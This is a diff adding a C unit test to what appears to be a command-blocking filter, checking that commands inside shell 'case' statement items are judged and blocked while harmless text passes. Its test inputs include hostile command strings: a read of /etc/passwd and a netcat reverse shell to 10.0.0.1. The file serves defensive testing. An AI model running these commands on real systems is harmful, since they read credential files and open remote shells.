@@ -1921,9 +1921,33 @@ static void monitor_mode_logs_and_allows(void **state)
 	moat_policy_release(p);
 }
 
+/* A case statement runs the commands of its items: "case x in a) id;;
+ * esac" parses (a ")" that ends a pattern, items ended by ;; ;& ;;&),
+ * so the command after the pattern is judged as any other; a ")" or ";;"
+ * outside a case still breaks the line. */
+static void a_case_items_commands_are_judged(void **state)
+{
+	char b[512];
+
+	(void)state;
+	assert_string_equal(kinds("case a in a) id;; esac", b, sizeof b),
+	                    "1:case|1:a|1:in|1:a|7:)|1:id|2:;;|1:esac");
+	assert_int_equal(unq("x;case a in a) id;;esac"), MOAT_BLOCK);
+	assert_int_equal(unq("x;case a in a)id;esac"), MOAT_BLOCK);
+	assert_int_equal(unq("x;case a in (a) id;esac"), MOAT_BLOCK);
+	assert_int_equal(unq("x;case a in *) cat /etc/passwd;;esac"), MOAT_BLOCK);
+	assert_int_equal(unq("x;case a in b) ;; a|c) id;& esac"), MOAT_BLOCK);
+	assert_int_equal(tail("x\ncase $1 in\n*) nc -e /bin/sh 10.0.0.1 4444;;\nesac"), MOAT_BLOCK);
+	/* text: a numbered list or a smiley outside a case breaks the line */
+	assert_int_equal(unq("see a) above;; then b) below"), MOAT_ALLOW);
+	assert_int_equal(unq("great :) thanks"), MOAT_ALLOW);
+	assert_int_equal(unq("in case a) fails"), MOAT_ALLOW);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test(a_case_items_commands_are_judged),
 	    cmocka_unit_test(the_tokenizer_follows_posix_sh),
 	    cmocka_unit_test(plain_words_end_where_the_word_rules_end_them),
 	    cmocka_unit_test(words_a_window_does_not_keep_leave_the_same_state),
